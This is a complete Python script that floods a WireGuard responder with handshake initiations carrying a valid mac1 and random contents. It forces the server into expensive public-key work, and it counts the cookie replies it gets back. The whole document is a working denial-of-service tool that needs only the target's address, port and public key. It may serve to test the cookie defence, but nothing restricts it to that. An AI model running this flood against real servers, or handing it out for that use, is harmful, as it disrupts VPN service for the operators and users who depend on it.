"""Floods a WireGuard responder with initiations that carry a right mac1 and no mac2: whoever knows its public key can.

    flood_initiations.py ADDRESS PORT PUBLIC_KEY RATE SECONDS

PUBLIC_KEY is the responder's, in base64; RATE is in datagrams a second; a SIGTERM ends it before its time. Everything
under the mac1 is random, so each initiation costs the responder the public-key work that cookies are there to save. Prints
how many were sent, and how many cookie replies came.
"""

import base64
import hashlib
import os
import signal
import socket
import sys
import time

BURST = 8  # datagrams between two looks at the clock


def initiation(mac1_key):
    """148 bytes: type, 112 bytes of invention, mac1, and a mac2 of zeros."""
    unsigned = b"\x01\x00\x00\x00" + os.urandom(112)
    return unsigned + hashlib.blake2s(unsigned, key=mac1_key, digest_size=16).digest() + bytes(16)


def main():
    address, port, public_key = sys.argv[1], int(sys.argv[2]), base64.b64decode(sys.argv[3])
    rate, seconds = float(sys.argv[4]), float(sys.argv[5])
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    pool = [initiation(mac1_key) for _ in range(20000)]
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((address, port))
    sock.setblocking(False)
    sent, cookies, start = 0, 0, time.monotonic()
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    while (now := time.monotonic()) < start + seconds and not stopped:
        for _ in range(BURST):
            try:
                sock.send(pool[sent % len(pool)])
                sent += 1
            except OSError:
                break  # The socket is full for a moment, or an ICMP message came back.
        cookies += received_cookies(sock)
        time.sleep(max(0.0, start + sent / rate - now))
    print(sent, "sent,", cookies, "cookie replies")


def received_cookies(sock):
    """How many cookie replies wait at the socket."""
    count = 0
    while True:
        try:
            reply = sock.recv(2048)
        except OSError:
            return count
        count += len(reply) == 64 and reply[0] == 3


main()
